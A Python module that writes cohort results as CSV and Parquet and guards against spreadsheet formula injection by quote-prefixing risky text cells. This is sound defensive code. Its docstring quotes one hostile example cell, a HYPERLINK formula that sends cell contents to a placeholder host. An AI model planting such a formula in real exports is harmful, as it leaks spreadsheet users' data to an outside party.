"""Exports of cohort results: formula-injection-safe CSV and Parquet.

A spreadsheet opening a CSV runs any cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (tab and carriage return can smuggle one in), so a hostile cell such as
``=HYPERLINK("http://x/?"&A1)`` would leak data. Following OWASP's advice every *text* cell (and
header) starting with one of those characters is prefixed with a single quote, which spreadsheets
show but do not evaluate. Numeric columns are written as numbers: a number such as ``-0.25``
cannot hold a formula. pandas' CSV writer still does the quoting.

Example:
    >>> safe_cell("=1+1"), safe_cell("-2"), safe_cell("ok")
    ("'=1+1", "'-2", 'ok')
"""

from __future__ import annotations

import io
from typing import IO, Any

import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """Prefix a text value that a spreadsheet would read as a formula; other values pass."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names cannot start a formula."""
    out = frame.copy()
    for col in out.columns:
        series = out[col]
        dtype = series.dtype
        if not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_bool_dtype(dtype)):
            out[col] = series.astype("object").map(safe_cell)
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out


def write_safe_csv(frame: pd.DataFrame, fh: IO[str], *, header: bool = True) -> None:
    """Append ``frame`` to an open text file as formula-safe CSV."""
    # RFC 4180 line ends: the csv module then quotes any cell holding a CR or LF.
    safe_frame(frame).to_csv(fh, index=False, header=header, lineterminator="\r\n")


def to_safe_csv(frame: pd.DataFrame) -> bytes:
    """The whole frame as formula-safe CSV bytes (UTF-8), for a download button."""
    buf = io.StringIO()
    write_safe_csv(frame, buf)
    return buf.getvalue().encode("utf-8")


def to_parquet_bytes(frame: pd.DataFrame) -> bytes:
    """The frame as Parquet bytes (typed; no formula risk), for a download button."""
    buf = io.BytesIO()
    frame.to_parquet(buf, index=False)
    return buf.getvalue()
